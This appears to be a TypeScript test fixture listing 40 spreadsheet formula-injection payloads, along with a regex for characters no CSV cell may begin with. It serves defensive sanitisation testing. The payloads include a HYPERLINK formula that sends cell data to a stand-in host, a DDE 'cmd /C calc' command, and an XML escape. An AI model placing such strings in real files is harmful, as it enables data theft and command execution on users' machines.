const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', ' ='];
const bodies = ['1+1', 'HYPERLINK("http://198.51.100.1/?x="&A1,"open")', "cmd|' /C calc'!A0"];

/** 40 texts that spreadsheets may take for formulas or that break a carrier format (trust.md, T18). */
export const formulaPayloads: readonly string[] = [
  ...starts.flatMap((start) => bodies.map((body) => start + body)),
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '"=1+1"',
  '=1+1;"a",b',
  ']]><x:formula>=1</x:formula><!--_x003D_1+1-->',
];

/** What no cell of a csv may begin with. */
export const formulaStart = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u;
